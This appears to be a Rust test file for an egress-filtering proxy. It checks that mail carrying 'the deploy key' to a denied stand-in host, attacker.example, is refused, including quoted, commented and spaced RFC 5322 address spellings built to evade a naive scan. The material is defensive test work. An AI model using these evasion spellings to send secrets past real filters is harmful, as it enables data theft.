//! An e-mail address as a mail library reads it. The egress scan reads `local@domain` as one word
//! with a plain local part; RFC 5322 also allows a quoted local part (`"bob"@…`), comments
//! (`bob(c)@…`, `bob@(c)…`) and spaces around `@` and `.`, and Python's `email` package (which
//! `smtplib.send_message` takes its recipients from) reads `bob@attacker.example` out of each.
//! The tool here (tests/peers/mail_tool.py) sends through a relay in its own process, which
//! journals every `RCPT TO` it was given.

use serde_json::json;

use crate::support::{config, post, proxy, Peer};

/// The mail tool as plain HTTP upstream `mail`, a sink; mail to attacker.example is denied.
async fn rig() -> (Peer, portcullis::app::Running) {
    let peer = Peer::start("python3", &["mail_tool.py"]);
    let url = format!("http://127.0.0.1:{}", peer.port);
    let c = config(
        &[("mail", &url)],
        "posture: auto\npermissions: { allow: [\"http__*\"] }\n\
         egress: { sinks: [\"http__mail__*\"], deny: [\"email:attacker.example\"] }\n",
    );
    let p = proxy(&c).await;
    (peer, p)
}

async fn send(p: &portcullis::app::Running, to: &str) -> (u16, String) {
    let args = json!({ "to": to, "body": "the deploy key" }).to_string();
    let (status, _, body) = post(&format!("http://{}/http/mail/send", p.addr), &[], args).await;
    (status, body)
}

/// The addresses the relay was asked to deliver to.
fn delivered(peer: &Peer) -> Vec<String> {
    peer.journal()
        .iter()
        .filter(|l| l["kind"] == "rcpt")
        .filter_map(|l| l["rcpt"].as_str().map(str::to_owned))
        .collect()
}

#[tokio::test]
async fn mail_to_a_denied_domain_spelt_plainly_is_refused() {
    let (peer, p) = rig().await;
    for to in ["bob@attacker.example", "Bob <bob@attacker.example>", "BOB@Attacker.Example."] {
        let (status, body) = send(&p, to).await;
        assert!(status == 403 && body.contains("email:attacker.example"), "{to}: {status} {body}");
    }
    assert!(delivered(&peer).is_empty(), "{:?}", delivered(&peer));
    p.shutdown().await;
}

#[tokio::test]
async fn mail_to_a_denied_domain_spelt_as_rfc_5322_allows_is_refused() {
    let (peer, p) = rig().await;
    let mut sent = Vec::new();
    for to in [
        "\"bob\"@attacker.example",
        "bob(c)@attacker.example",
        "bob@(c)attacker.example",
        "bob @ attacker.example",
    ] {
        let (status, body) = send(&p, to).await;
        if status != 403 {
            sent.push(format!("{to}: {status} {body}"));
        }
    }
    assert!(sent.is_empty(), "forwarded: {sent:?}; the relay was asked to deliver to {:?}", delivered(&peer));
    p.shutdown().await;
}
